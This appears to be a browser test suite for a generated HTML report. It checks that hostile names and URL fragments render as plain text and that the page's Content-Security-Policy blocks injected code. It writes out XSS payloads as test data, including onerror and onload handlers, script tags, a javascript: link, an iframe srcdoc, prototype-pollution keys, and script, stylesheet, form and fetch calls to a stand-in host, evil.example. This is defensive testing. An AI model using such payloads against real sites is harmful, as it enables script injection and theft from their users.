// Nothing of what comes from outside becomes markup or runs; the page asks for nothing.
import crypto from "node:crypto";
import fs from "node:fs";
import path from "node:path";
import { address, allRows, anchor, blank, check, json, open, read, same, sameSet, shards, shown, shut, sure, unit, within, work } from "./lib.mjs";

const TAGS = ("html head meta title style body a header p h1 h2 h3 span nav ul ol li main section strong b div table caption " +
  "thead tbody tr th td bdi small br code details summary i svg desc text rect line g dl dt dd pre del ins script button form input select " +
  "option output footer time em").split(" ");
const ATTRIBUTES = ("id class href lang charset http-equiv content name scope rowspan colspan role viewbox width height x y " +
  "x1 x2 y1 y2 text-anchor type title placeholder value tabindex open hidden style datetime").split(" ");
const WAYS = /^(#[A-Za-z0-9_-]+|(report|changes-\d{4}|changes-index)\.html(#[A-Za-z0-9_-]+)?)$/;

// What is in the page that we have not put there.
function strangers(page) {
  return page.evaluate(([tags, attributes, ways]) => {
    const found = [], way = new RegExp(ways);
    for (const element of document.querySelectorAll("*")) {
      const tag = element.tagName.toLowerCase();
      if (!tags.includes(tag)) found.push(`<${tag}>`);
      for (const { name, value } of element.attributes) {
        const known = attributes.includes(name.toLowerCase()) || /^(data|aria)-[a-z-]+$/.test(name);
        if (!known || /^on/.test(name)) found.push(`<${tag} ${name}>`);
        if (/^(href|src|action|formaction|srcdoc|xlink:href)$/.test(name) && !way.test(value)) found.push(`${name}=${value}`);
        if (name === "style") found.push(`style=${value}`);
      }
    }
    for (const [tag, most] of [["script", 1], ["style", 2], ["title", 1], ["img", 0], ["h1", 1], ["main", 1]])
      if (document.querySelectorAll(`${tag}:not(svg *)`).length !== most) found.push(`${tag}: not ${most}`);
    return found.slice(0, 20);
  }, [TAGS, ATTRIBUTES, WAYS.source]);
}

function quiet(page, url) {
  same(page.events.dialogs, [], "dialogs");
  same(page.events.console, [], "messages");
  same(page.events.errors, [], "errors of scripts");
  same(page.events.requests, [url], "requests");
}

async function untouched(report, file, options = {}) {
  await within(report, { file, ...options }, async (page) => {
    same(await strangers(page), [], `${file}: elements that are not ours`);
    same(await page.evaluate(() => typeof window.pwned), "undefined", `${file}: script that ran`);
    quiet(page, address(report, file));
  });
}

// Walks over everything that can be pressed or pointed at, in a page full of hostile values.
async function pressed(report, file) {
  await within(report, { file }, async (page) => {
    await page.evaluate(() => {
      for (const details of document.querySelectorAll("details")) details.open = true;
      for (const button of document.querySelectorAll("button:not(.copy button)")) button.click();
      for (const element of document.querySelectorAll("bdi, td, th, a"))
        for (const type of ["mouseover", "focus", "mouseenter", "toggle"]) element.dispatchEvent(new Event(type, { bubbles: true }));
    });
    for (const box of ["#f-kind", "#f-unit", "#f-field", "#f-reason"])
      await page.evaluate((id) => {
        const element = document.querySelector(id);
        for (const option of [...element.options].slice(0, 60)) {
          element.value = option.value;
          element.dispatchEvent(new Event("change"));
        }
      }, box);
    await page.fill("#find", "<img src=x onerror=pwned=1>");
    same(await strangers(page), [], "elements that are not ours");
    same(await page.evaluate(() => typeof window.pwned), "undefined", "script that ran");
    same(page.events.dialogs, [], "dialogs");
    same(page.events.errors, [], "errors of scripts");
  });
}

export default async function safety(reports) {
  for (const report of reports)
    await check(`quiet and as written: ${report}`, () => untouched(report, "report.html"));
  await check("quiet and as written: 300 hostile people, on standard output", () => untouched("hostile-300", "stream.html"));
  await check("quiet and as written: 10000 hostile people, on standard output", () => untouched("hostile-10000", "stream.html"));
  for (const report of ["hostile-10000", "shards"]) {
    await check(`quiet and as written: pages of ${report}`, async () => {
      const files = [...(report === "shards" ? [shards(report)[0], shards(report).at(-1)] : shards(report)), "changes-index.html"];
      for (const file of files) await untouched(report, file);
      return `${files.length} pages`;
    });
  }
  await check("hostile values: every name stands in its row as text", async () => {
    const wanted = json("hostile-10000").changes, found = await allRows("hostile-10000");
    const by = new Map(found.map((row) => [row.anchor, row]));
    sameSet(found.map((row) => row.anchor), wanted.map(anchor), "rows");
    for (const change of wanted) {
      const row = by.get(anchor(change));
      same(row.name, shown(change.name), `name of ${change.id}`);
      same(row.unit, shown(unit("hostile-10000", change)), `department of ${change.id}`);
    }
    return `${found.length} people`;
  });
  await check("hostile values: pressing everything runs nothing", () => pressed("hostile-300", "report.html"));
  await check("hostile values: an address that would like to be markup", async () => {
    const hash = `#?q=${encodeURIComponent("<img src=x onerror=pwned=1>")}&kind=${encodeURIComponent("\"><script>pwned=1</script>")}&unit=%&__proto__=1&constructor=2`;
    await within("day2", { hash }, async (page) => {
      same(await strangers(page), [], "elements that are not ours");
      same(await page.evaluate(() => typeof window.pwned), "undefined", "script that ran");
      same(await page.inputValue("#find"), "<img src=x onerror=pwned=1>", "search");
      quiet(page, address("day2"));
    });
  });

  await check("policy: it lists the digests of what is in the page, and nothing else", () => {
    let count = 0;
    const files = [...reports.map((report) => [report, "report.html"]), ["shards", shards("shards")[0]], ["shards", "changes-index.html"]];
    for (const [report, file] of files) {
      const page = read(report, file);
      const policy = page.match(/<meta http-equiv="Content-Security-Policy" content="([^"]*)">/);
      sure(policy && policy.index < page.search(/<(style|script|title|link)/), `${report}: the policy comes first`);
      const hash = (text) => `'sha256-${crypto.createHash("sha256").update(text).digest("base64")}'`;
      const inside = (tag) => [...page.matchAll(new RegExp(`<${tag}>(.*?)</${tag}>`, "gs"))].map((each) => hash(each[1]));
      same(policy[1].split("; "), ["default-src 'none'", `style-src ${inside("style").join(" ")}`,
        `script-src ${inside("script").join(" ")}`, "base-uri 'none'", "form-action 'none'"], `${report}: policy`);
      count++;
    }
    return `${count} pages`;
  });
  await check("policy: injected script, style, image, frame and request do nothing", async () => {
    const page = await blank();
    const bad = `<script>window.pwned=1</script><style>body{color:rgb(1,2,3)!important}</style><p style="color:rgb(1,2,3)" id="styled">x</p>` +
      `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="window.pwned=2" onerror="window.pwned=3">` +
      `<iframe srcdoc="<script>parent.pwned=4</script>"></iframe><a id="way" href="javascript:window.pwned=5">x</a>` +
      `<svg onload="window.pwned=6"></svg><base href="http://evil.example/"><link rel="stylesheet" href="http://evil.example/x.css">` +
      `<script src="http://evil.example/x.js"></script><form action="http://evil.example/" id="sent"><button>x</button></form>`;
    fs.mkdirSync(path.join(work, "injected"), { recursive: true });
    fs.writeFileSync(path.join(work, "injected", "report.html"), read("day2", "report.html").replace("<main id=\"main\">", `<main id="main">${bad}`));
    await page.goto(address("injected"));
    await page.evaluate(() => {
      document.getElementById("way").click();
      document.getElementById("sent").requestSubmit();
      const script = document.createElement("script");
      script.textContent = "window.pwned=7";
      document.body.appendChild(script);
      return fetch("http://evil.example/").catch(() => 0);
    });
    await page.waitForTimeout(200);
    same(await page.evaluate(() => typeof window.pwned), "undefined", "script that ran");
    same(await page.evaluate(() => [getComputedStyle(document.body).color, getComputedStyle(document.getElementById("styled")).color]
      .includes("rgb(1, 2, 3)")), false, "style that counted");
    // The policy refuses what would be asked for, before the network does; our own script still works.
    same(page.events.failed.filter((each) => !/^csp /.test(each)), [], "requests that the policy let through");
    same(page.events.requests.filter((url) => /^http/.test(url)).length, page.events.failed.length, "requests that nobody refused");
    sure(await page.locator("#tools").count() === 1, "our own script ran");
    sure(page.events.console.some((text) => /Content Security Policy/.test(text)), "the policy said so");
    await shut(page);
  });
}
